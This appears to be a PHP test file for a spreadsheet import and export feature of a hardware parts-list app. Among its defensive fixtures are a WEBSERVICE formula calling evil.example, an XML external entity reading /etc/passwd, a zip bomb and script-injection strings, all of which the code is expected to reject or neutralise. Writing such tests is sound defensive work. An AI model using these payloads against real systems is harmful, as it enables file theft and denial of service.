<?php

declare(strict_types=1);

use App\Models\LineRecord;
use App\Models\PartRecord;
use App\Sheets\SheetFile;
use PhpOffice\PhpSpreadsheet\Cell\DataType;
use PhpOffice\PhpSpreadsheet\Reader\Ods as OdsReader;
use PhpOffice\PhpSpreadsheet\Reader\Xlsx as XlsxReader;
use PhpOffice\PhpSpreadsheet\Spreadsheet;
use PhpOffice\PhpSpreadsheet\Writer\Ods;
use PhpOffice\PhpSpreadsheet\Writer\Xlsx;

/** @param  callable(Spreadsheet): void  $fill */
function spreadsheet(string $format, callable $fill): string
{
    $book = new Spreadsheet;
    $fill($book);
    ob_start();
    ($format === 'ods' ? new Ods($book) : new Xlsx($book))->save('php://output');

    return base64_encode((string) ob_get_clean());
}

const ROWS = [
    ['Handheld, third try'], [],
    ['Item', 'Qty', 'Price', 'Where', 'Link', 'Status', 'Weight (g)'],
    ['Brook 5V 4A buck', 1, 7.5, 'Cellmart', 'https://cell.example/1', 'ordered', ''],
    ['Flat LiPo cell 3.7 V 5000 mAh', 2, 14.5, 'Cellmart', '', 'here', 98],
    ['Wooden owl', 1, 3, 'drawer', '', '', ''],
    ['Total', '', 39.5],
];

beforeEach(function (): void {
    $this->travelTo('2026-11-23 12:00:00');
    $this->user = $this->builder();
    $this->actingAs($this->user);
    $this->file = static fn (string $format): string => spreadsheet($format, static function (Spreadsheet $book): void {
        $book->getActiveSheet()->fromArray(ROWS);
        $book->getActiveSheet()->getStyle('C4:C7')->getNumberFormat()->setFormatCode('#,##0.00 [$€-407]');
        $book->createSheet()->setTitle('Other')->fromArray([['Name'], ['A lamp']]);
    });
});

it('shows what would become of each row, of each kind of file', function (string $format): void {
    $csv = "Item;Qty;Price €;Where;Link;Status;Weight (g)\r\nBrook 5V 4A buck;1;7,50;Cellmart;https://cell.example/1;ordered;\r\nFlat LiPo cell 3.7 V 5000 mAh;2;14,50;Cellmart;;here;98\r\nWooden owl;1;3;drawer;;;\r\nTotal;;39,50\r\n";
    $given = match ($format) {
        'csv' => ['file' => base64_encode($csv)],
        'latin' => ['file' => base64_encode((string) mb_convert_encoding($csv, 'Windows-1252', 'UTF-8'))],
        'utf-16' => ['file' => base64_encode("\xFF\xFE".mb_convert_encoding($csv, 'UTF-16LE', 'UTF-8'))],
        'pasted' => ['text' => str_replace([';', ','], ["\t", '.'], $csv)],
        default => ['file' => ($this->file)($format)],
    };
    $preview = $this->assertShape($this->postJson('/api/sheets', $given)->assertOk(), 'SheetPreview')->json();
    expect(array_column($preview['columns'], 'kind'))->toBe(['name', 'quantity', 'price', 'vendor', 'link', 'state', 'figure']);
    [$brook, $cell, $owl, $total] = $preview['rows'];
    expect($brook['match']['name'])->toBe('Brook 5 V buck, 4 A')->and($brook['finds'])->toBe([])->and($brook['price']['currency'])->toBe($format === 'ods' ? '' : 'EUR')
        ->and((float) $brook['price']['amount'])->toBe(7.5)
        ->and($cell['match'])->toBeNull()->and($cell['role'])->toBe('cells')->and($cell['quantity'])->toBe(2)->and($cell['state'])->toBe('arrived')
        ->and(array_column($cell['finds'], 'says'))->toContain('98 g', '5000 mAh')
        ->and($owl)->toMatchArray(['role' => null, 'origin' => 'own', 'vendor' => ''])
        ->and($total['leftOut'])->toBe('a sum, not a part');
    expect(PartRecord::query()->where('user_id', $this->user->id)->count())->toBe(0);
})->with(['xlsx', 'ods', 'csv', 'latin', 'utf-16', 'pasted']);

it('reads the sheet that is asked for, and the columns as the builder names them', function (): void {
    $file = ($this->file)('xlsx');
    $preview = $this->postJson('/api/sheets', ['file' => $file, 'sheet' => 'Other'])->assertOk()->json();
    expect($preview['sheets'])->toBe(['Worksheet', 'Other'])->and(array_column($preview['rows'], 'name'))->toBe(['A lamp']);
    $columns = ['name', 'quantity', 'ignored', 'note', 'link', 'state', 'ignored'];
    $rows = $this->postJson('/api/sheets', ['file' => $file, 'columns' => $columns])->assertOk()->json('rows');
    expect($rows[1])->toMatchArray(['price' => null, 'note' => 'Cellmart', 'vendor' => '', 'text' => "Flat LiPo cell 3.7 V 5000 mAh\nCellmart"]);
});

it('takes what was worked out, and works nothing out; merged cells are said of each row', function (): void {
    $file = spreadsheet('xlsx', static function (Spreadsheet $book): void {
        $sheet = $book->getActiveSheet();
        $sheet->fromArray([['Item', 'Qty', 'Vendor', 'Price'], ['Fan', 1, 'Cellmart', 2], ['Heatsink', 1, '', 3], ['Lamp', 1, '', '=WEBSERVICE("http://evil.example/")']]);
        $sheet->mergeCells('C2:C4');
        $sheet->fromArray([['Notes'], ['quiet'], [''], ['']], null, 'AB1');
        $sheet->mergeCells('AB2:AB3');
        $sheet->setCellValue('B2', '=1+1');
    });
    $preview = $this->postJson('/api/sheets', ['file' => $file])->assertOk()->json();
    expect(array_column($preview['rows'], 'vendor'))->toBe(['Cellmart', 'Cellmart', 'Cellmart'])
        ->and(array_column($preview['rows'], 'note'))->toBe(['quiet', 'quiet', ''])
        ->and($preview['rows'][0]['quantity'])->toBe(2)
        ->and($preview['rows'][2]['price'])->toBeNull()
        ->and($preview['remarks'])->toBe(['What stands in merged cells is taken for each of their rows.']);
});

it('puts the confirmed rows on the list: known parts, and new ones with what their rows say', function (): void {
    $build = $this->postJson('/api/builds', ['name' => 'Third try'])->assertCreated()->json('id');
    $rows = $this->postJson('/api/sheets', ['file' => ($this->file)('ods')])->assertOk()->json('rows');
    $given = array_map(static fn (array $row): array => [...array_intersect_key($row, array_flip(['name', 'role', 'quantity', 'price', 'vendor', 'maker', 'link', 'state', 'origin', 'note', 'text'])), 'part' => $row['match']['libraryId'] ?? null], array_slice($rows, 0, 3));
    $refused = $this->postJson("/api/builds/{$build}/sheet", ['version' => 1, 'rows' => $given])->assertStatus(422)->json('fields');
    expect($refused)->toBe(['rows.2.role' => ['Choose what "Wooden owl" is for; its name does not tell.']])->and(LineRecord::query()->where('build_id', $build)->count())->toBe(0);
    $given[2]['role'] = 'material';
    $after = $this->assertShape($this->postJson("/api/builds/{$build}/sheet", ['version' => 1, 'rows' => $given])->assertOk(), 'Build')->json();
    expect(array_map(static fn (array $line): array => [$line['part']['name'], $line['role'], $line['quantity'], $line['state'], $line['origin'], $line['vendor'], $line['price']['currency']], $after['lines']))->toBe([
        ['Brook 5 V buck, 4 A', 'regulator', 1, 'ordered', 'buy', 'Cellmart', 'EUR'],
        ['Flat LiPo cell 3.7 V 5000 mAh', 'cells', 2, 'arrived', 'buy', 'Cellmart', 'EUR'],
        ['Wooden owl', 'material', 1, 'chosen', 'own', '', 'EUR'],
    ]);
    $cell = PartRecord::query()->where('user_id', $this->user->id)->where('role', 'cells')->firstOrFail()->spec;
    expect($cell['facets']['pack']['capacityMah']['value'])->toEqual(5000)->and($cell['facets']['pack']['capacityMah']['source'])->toBe('listing')
        ->and($cell['facets']['size']['massG']['value'])->toEqual(98)->and($cell['clippings'][0]['text'])->toContain('Weight: 98 g')
        // 7.5 + 2 × 14.5; the owl was in the drawer, and a price is written down for it: 3.
        ->and($after['appraisal']['vitals']['cost']['amount'])->toBe('39.50');
    $this->postJson("/api/builds/{$build}/sheet", ['version' => 1, 'rows' => $given])->assertStatus(409);
});

it('puts new parts into the library, and leaves known ones', function (): void {
    $rows = [['name' => 'Brook', 'part' => $this->part('reg-brook-5')], ['name' => 'Odd fan 30 mm', 'role' => 'cooling', 'maker' => 'Nobody', 'link' => 'https://fan.example/3', 'price' => ['amount' => '2.20', 'currency' => 'GBP']]];
    $this->postJson('/api/parts/sheet', ['rows' => $rows])->assertCreated()->assertExactJson(['added' => 1, 'left' => 1]);
    $fan = PartRecord::query()->where('user_id', $this->user->id)->sole();
    expect($fan->spec)->toMatchArray(['maker' => 'Nobody', 'link' => 'https://fan.example/3', 'offers' => [['vendor' => 'not said', 'price' => ['amount' => '2.20', 'currency' => 'GBP']]]]);
});

it('refuses in words what is no spreadsheet, too large or of a hostile kind', function (callable $file, string $words): void {
    $answer = $this->postJson('/api/sheets', ['file' => base64_encode($file())])->assertStatus(422);
    expect($answer->json('fields.file.0'))->toContain($words);
})->with([
    'empty' => [static fn (): string => '', 'Choose an XLSX'],
    'a picture' => [static fn (): string => "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 'no spreadsheet'],
    'a page' => [static fn (): string => '<!DOCTYPE html><script>alert(1)</script>', 'no spreadsheet'],
    'an old binary' => [static fn (): string => "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".str_repeat("\0", 600), 'old binary kind'],
    'another packed file' => [static fn (): string => zipOf(['a.txt' => 'x']), 'no spreadsheet'],
    'cut short' => [static fn (): string => substr(zipOf(['[Content_Types].xml' => '<x/>', 'a' => str_repeat('b', 300)]), 0, 120), 'damaged'],
    'a packed bomb' => [static fn (): string => zipOf(['[Content_Types].xml' => '<Types/>', 'xl/worksheets/sheet1.xml' => str_repeat(' ', 70_000_000)]), 'unpacks to more than 60 MB'],
    'a thousand packed files' => [static fn (): string => zipOf(['[Content_Types].xml' => '<Types/>'] + array_fill_keys(array_map(static fn (int $n): string => "f{$n}", range(1, 1000)), 'x')), 'unpacks to more'],
    'an outside entity' => [static fn (): string => zipOf(['[Content_Types].xml' => '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Types>&e;</Types>', 'xl/workbook.xml' => '<x/>']), 'could not be read'],
    'ten thousand rows' => [static fn (): string => "Part,Qty\n".str_repeat("A board,1\n", 10_000), 'more than 2000 rows'],
]);

/** @param  array<string, string>  $files */
function zipOf(array $files): string
{
    $path = (string) tempnam(sys_get_temp_dir(), 'zip');
    $archive = new ZipArchive;
    $archive->open($path, ZipArchive::OVERWRITE);
    foreach ($files as $name => $text) {
        $archive->addFromString($name, $text);
    }
    $archive->close();
    $bytes = (string) file_get_contents($path);
    unlink($path);

    return $bytes;
}

it('says the rows of a packed file that is too long, and reads a hundred columns as far as they go', function (): void {
    $long = spreadsheet('xlsx', static function (Spreadsheet $book): void {
        $book->getActiveSheet()->fromArray([['Part']])->setCellValueExplicit('A10000', 'last', DataType::TYPE_STRING);
    });
    expect($this->postJson('/api/sheets', ['file' => $long])->assertStatus(422)->json('fields.file.0'))->toContain('has 10000 rows; up to 2000 are read');
    $wide = spreadsheet('xlsx', static function (Spreadsheet $book): void {
        $book->getActiveSheet()->fromArray([['Part', ...array_map(static fn (int $n): string => "f{$n}", range(1, 99))], ['Fan', ...range(1, 99)]]);
    });
    expect($this->postJson('/api/sheets', ['file' => $wide])->assertOk()->json('columns'))->toHaveCount(SheetFile::MOST_COLUMNS);
});

it('keeps what is written from the right to the left, and in wide figures', function (): void {
    $rows = $this->postJson('/api/sheets', ['text' => "Item\tQty\n\u{5DE}\u{5E1}\u{5DA} 5 V\t２\n<script>alert(1)</script> fan\t1"])->assertOk()->json('rows');
    expect($rows[0]['name'])->toBe("\u{5DE}\u{5E1}\u{5DA} 5 V")->and($rows[1]['name'])->toBe('<script>alert(1)</script> fan');
});

it('saves the list and what is said of it, so that it is read again', function (string $format): void {
    $build = $this->refuge($this->user);
    $build->lines[0]->fill(['note' => '=1+1'])->save();
    $bytes = (string) $this->get("/api/builds/{$build->id}/parts.{$format}")->assertOk()->getContent();
    $path = (string) tempnam(sys_get_temp_dir(), 'out');
    file_put_contents($path, $bytes);
    $book = ($format === 'ods' ? new OdsReader : new XlsxReader)->load($path);
    expect($book->getSheetNames())->toBe(['Parts', 'Findings'])
        ->and($book->getSheet(0)->getCell('O2')->getDataType())->toBe(DataType::TYPE_STRING)
        ->and($book->getSheet(0)->getCell('I3')->getValue())->toEqual(44)
        ->and($book->getSheet(1)->getCell('A2')->getValue())->toBe('clash');
    $preview = $this->postJson('/api/sheets', ['file' => base64_encode($bytes)])->assertOk()->json('rows');
    unlink($path);
    $lines = $this->getJson("/api/builds/{$build->id}")->json('lines');
    expect(array_column($preview, 'name'))->toBe(array_map(static fn (array $line): string => $line['part']['name'], $lines))
        ->and(array_unique(array_column($preview, 'leftOut')))->toBe([''])
        ->and(array_column($preview, 'state'))->toBe(array_column($lines, 'state'))
        ->and(array_column($preview, 'origin'))->toBe(array_column($lines, 'origin'));
})->with(['ods', 'xlsx']);

it('saves the library with its figures', function (string $format): void {
    $this->postJson('/api/parts/sheet', ['rows' => [['name' => 'My fan', 'role' => 'cooling', 'text' => "My fan\nWeight: 12 g"]]])->assertCreated();
    $bytes = (string) $this->get("/api/parts/sheet.{$format}")->assertOk()->getContent();
    $rows = $this->postJson('/api/sheets', ['file' => base64_encode($bytes)])->assertOk()->json('rows');
    expect($rows[0]['name'])->toBe('My fan')->and($rows[0]['match']['isOwn'])->toBeTrue();
    if ($format !== 'csv') {
        $figures = $this->postJson('/api/sheets', ['file' => base64_encode($bytes), 'sheet' => 'Figures'])->assertOk()->json('columns');
        expect(array_column($figures, 'heading'))->toBe(['part', 'of', 'figure', 'is', 'from']);
    }
})->with(['csv', 'ods', 'xlsx']);
